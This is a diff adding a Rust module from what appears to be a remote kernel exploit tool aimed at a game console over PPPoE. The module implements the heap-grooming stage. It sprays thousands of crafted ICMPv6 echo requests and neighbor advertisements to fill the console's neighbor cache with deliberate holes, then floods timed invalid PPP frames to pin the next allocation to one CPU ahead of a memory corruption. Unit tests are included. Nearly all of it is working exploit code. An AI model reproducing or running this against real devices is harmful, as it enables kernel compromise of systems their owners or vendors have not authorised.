@@ -0,0 +1,306 @@
+use super::ipv6::{
+    echo_request, neighbor_advertisement, CHECKSUM_OFFSET, ECHO_SEQ_OFFSET, NA_TARGET_OFFSET,
+    NEIGHBOR_SOLICITATION, SRC_OFFSET,
+};
+use super::{Run, REPLY_TIMEOUT};
+use crate::attempt::{Milestone, Stage};
+use crate::failure::Failure;
+use crate::log::error;
+use crate::proto::lcp::MAX_MRU;
+use crate::rt;
+use crate::scheduler::Scheduler;
+use crate::template::{Field, FrameTemplate};
+use erdp::ErrorDisplay;
+use macaddr::MacAddr6;
+use std::fmt::{Display, Formatter};
+use std::net::Ipv6Addr;
+use std::str::FromStr;
+use std::time::{Duration, Instant};
+
+/// Protocol of the invalid PPP frames for pinning, which the console does not know.
+const PIN_PROTO: u16 = 0x4141;
+
+/// How to shape the kernel heap of the console before the corruption.
+///
+/// The defaults are what the exploit was developed with. The slow links may need a longer delay
+/// between the frames so the console keep up with them.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub struct GroomConfig {
+    /// Number of neighbor cache entries to allocate on the console.
+    pub spray: u16,
+    /// The entries after this will have a hole on every [`GroomConfig::hole_space`] entries.
+    pub hole_start: u16,
+    pub hole_space: u16,
+    /// Delay after each neighbor cache entry.
+    pub spray_delay: Duration,
+    /// Number of invalid PPP frames to get the next allocation on the same CPU.
+    pub pin: usize,
+    /// Size of the data in each invalid PPP frame.
+    pub pin_size: usize,
+    /// Interval between the invalid PPP frames.
+    pub pin_interval: Duration,
+}
+
+impl GroomConfig {
+    /// Returns the address of neighbor cache entry `i`.
+    pub(super) fn spray_addr(i: u16) -> Ipv6Addr {
+        Ipv6Addr::new(0xfe80, 0, 0, 0, i, 0x4141, 0x4141, 0x4141)
+    }
+
+    /// Returns `true` if neighbor cache entry `i` is left incomplete.
+    pub(super) fn is_hole(&self, i: u16) -> bool {
+        i >= self.hole_start && i.is_multiple_of(self.hole_space)
+    }
+}
+
+impl Default for GroomConfig {
+    fn default() -> Self {
+        Self {
+            spray: 0x1000,
+            hole_start: 0x400,
+            hole_space: 0x10,
+            spray_delay: Duration::ZERO,
+            pin: 0x1000,
+            pin_size: 0,
+            pin_interval: Duration::from_millis(1),
+        }
+    }
+}
+
+impl FromStr for GroomConfig {
+    type Err = String;
+
+    /// Parse a comma-separated list of `KEY=VALUE` on top of the defaults. The delays and the
+    /// intervals are in microseconds and the numbers can also be hexadecimal with `0x`.
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        let mut config = Self::default();
+
+        for item in s.split(',') {
+            let (k, v) = item
+                .split_once('=')
+                .ok_or_else(|| format!("expect KEY=VALUE, got '{item}'"))?;
+            let n = parse_num(v).ok_or_else(|| format!("invalid value '{v}' for {k}"))?;
+            let count = || u16::try_from(n).map_err(|_| format!("{k} must not exceed 65535"));
+
+            match k {
+                "spray" => config.spray = count()?,
+                "hole-start" => config.hole_start = count()?,
+                "hole-space" => config.hole_space = count()?,
+                "spray-delay" => config.spray_delay = Duration::from_micros(n),
+                "pin" => config.pin = count()?.into(),
+                "pin-size" => config.pin_size = n.try_into().unwrap(),
+                "pin-interval" => config.pin_interval = Duration::from_micros(n),
+                _ => return Err(format!("unknown key '{k}'")),
+            }
+        }
+
+        // The corruption need a hole to land in.
+        if config.hole_space == 0 {
+            return Err("hole-space must not be zero".into());
+        } else if config.hole_start >= config.spray {
+            return Err("hole-start must be less than spray".into());
+        } else if config.pin_size > usize::from(MAX_MRU) - 2 {
+            return Err(format!("pin-size must not exceed {}", MAX_MRU - 2));
+        }
+
+        Ok(config)
+    }
+}
+
+impl Display for GroomConfig {
+    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "{} entries with a hole on every {} after {} and {}us apart, {} pinning frames of {} bytes {}us apart",
+            self.spray,
+            self.hole_space,
+            self.hole_start,
+            self.spray_delay.as_micros(),
+            self.pin,
+            self.pin_size,
+            self.pin_interval.as_micros()
+        )
+    }
+}
+
+/// Prebuilt ICMPv6 packets for the neighbor cache entries.
+pub(super) struct SprayFrames {
+    echo: FrameTemplate,
+    echo_src: Field,
+    echo_seq: Field,
+    advert: FrameTemplate,
+    advert_src: Field,
+    advert_target: Field,
+    buf: Vec<u8>,
+}
+
+impl SprayFrames {
+    pub fn new(target: Ipv6Addr, lladdr: MacAddr6) -> Self {
+        let src = GroomConfig::spray_addr(0);
+        let echo =
+            FrameTemplate::new(echo_request(src, target, 0x4141, 0)).with_checksum(CHECKSUM_OFFSET);
+        let advert = FrameTemplate::new(neighbor_advertisement(src, target, lladdr))
+            .with_checksum(CHECKSUM_OFFSET);
+        let buf = vec![0; echo.len().max(advert.len())];
+
+        Self {
+            echo_src: echo.field(SRC_OFFSET, 16),
+            echo_seq: echo.field(ECHO_SEQ_OFFSET, 2),
+            echo,
+            advert_src: advert.field(SRC_OFFSET, 16),
+            advert_target: advert.field(NA_TARGET_OFFSET, 16),
+            advert,
+            buf,
+        }
+    }
+
+    /// Returns an Echo Request from the address of neighbor cache entry `i`.
+    pub fn echo_request(&mut self, i: u16) -> &[u8] {
+        let src = GroomConfig::spray_addr(i).octets();
+        let patches = [(self.echo_src, &src[..]), (self.echo_seq, &i.to_be_bytes())];
+
+        self.echo.render(&mut self.buf, &patches)
+    }
+
+    /// Returns a Neighbor Advertisement for the address of neighbor cache entry `i`.
+    pub fn neighbor_advertisement(&mut self, i: u16) -> &[u8] {
+        let src = GroomConfig::spray_addr(i).octets();
+        let patches = [(self.advert_src, &src[..]), (self.advert_target, &src[..])];
+
+        self.advert.render(&mut self.buf, &patches)
+    }
+}
+
+impl Run<'_> {
+    /// Allocate the neighbor cache entries with a hole on every [`GroomConfig::hole_space`]
+    /// entries.
+    pub(super) async fn groom(&mut self) -> Result<(), Failure> {
+        let config = self.exploit.groom;
+
+        self.progress(format!(
+            "Grooming the kernel heap with {} entries",
+            config.spray
+        ));
+
+        let mut frames = SprayFrames::new(self.target, self.exploit.mac);
+
+        for i in 0..config.spray {
+            // The console will solicit our address before replying.
+            let src = GroomConfig::spray_addr(i);
+
+            self.send_ipv6(frames.echo_request(i))?;
+            self.recv_ipv6(REPLY_TIMEOUT, |p| {
+                (p.ty == NEIGHBOR_SOLICITATION && p.target() == Some(src)).then_some(())
+            })
+            .await
+            .ok_or(Failure::Ipv6Timeout)?;
+
+            // Leave the entry incomplete to make a hole.
+            if !config.is_hole(i) {
+                self.send_ipv6(frames.neighbor_advertisement(i))?;
+            }
+
+            if !config.spray_delay.is_zero() {
+                rt::sleep(config.spray_delay).await;
+            }
+        }
+
+        self.attempt.advance(Milestone::HeapGroomed);
+
+        Ok(())
+    }
+
+    /// Send the invalid PPP frames to make the console print to the kernel log. For some reason
+    /// this make the next allocation happen on CPU 0.
+    pub(super) async fn pin(&mut self) -> Result<(), Failure> {
+        let config = self.exploit.groom;
+
+        self.progress("Pinning to CPU 0");
+
+        let sock = &self.exploit.sock;
+        let mut scheduler = match Scheduler::new(sock, Duration::from_micros(100)) {
+            Ok(v) => v,
+            Err(e) => {
+                error!("Failed to create a scheduler: {}.", e.display());
+                return Err(Failure::SendFailed);
+            }
+        };
+
+        let frame = self.ppp_frame(PIN_PROTO, &vec![0x41; config.pin_size]);
+        let start = Instant::now();
+
+        for i in 0..config.pin {
+            let at = start + config.pin_interval * i.try_into().unwrap();
+
+            scheduler.push(at, self.ppp_addr(), frame.clone());
+        }
+
+        if let Err(e) = scheduler.run(self.attempt.timing(Stage::Exploit)).await {
+            error!(
+                "Failed to send PPP frame to {}: {}.",
+                self.peer,
+                e.display()
+            );
+            return Err(Failure::SendFailed);
+        }
+
+        Ok(())
+    }
+}
+
+/// Parse a decimal or hexadecimal with `0x` number.
+fn parse_num(s: &str) -> Option<u64> {
+    match s.strip_prefix("0x") {
+        Some(v) => u64::from_str_radix(v, 16).ok(),
+        None => s.parse().ok(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parse() {
+        let config: GroomConfig = "spray=0x800,hole-space=8,spray-delay=50,pin-size=64"
+            .parse()
+            .unwrap();
+
+        assert_eq!(config.spray, 0x800);
+        assert_eq!(config.hole_start, 0x400);
+        assert_eq!(config.hole_space, 8);
+        assert_eq!(config.spray_delay, Duration::from_micros(50));
+        assert_eq!(config.pin, 0x1000);
+        assert_eq!(config.pin_size, 64);
+        assert!(!config.is_hole(8));
+        assert!(config.is_hole(0x408));
+        assert!(!config.is_hole(0x409));
+        assert!("spray=0x400".parse::<GroomConfig>().is_err());
+        assert!("hole-space=0".parse::<GroomConfig>().is_err());
+        assert!("spray=70000".parse::<GroomConfig>().is_err());
+        assert!("pin-size=2000".parse::<GroomConfig>().is_err());
+        assert!("size=1".parse::<GroomConfig>().is_err());
+    }
+
+    #[test]
+    fn spray_frames() {
+        let target = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xaa);
+        let mac = MacAddr6::new(0x02, 0, 0, 0, 0, 0x01);
+        let mut frames = SprayFrames::new(target, mac);
+
+        for i in [0, 1, 0x41, 0x400, 0xfffe, 0xffff] {
+            let src = GroomConfig::spray_addr(i);
+
+            assert_eq!(
+                frames.echo_request(i),
+                echo_request(src, target, 0x4141, i),
+                "echo request #{i}"
+            );
+            assert_eq!(
+                frames.neighbor_advertisement(i),
+                neighbor_advertisement(src, target, mac),
+                "neighbor advertisement #{i}"
+            );
+        }
+    }
+}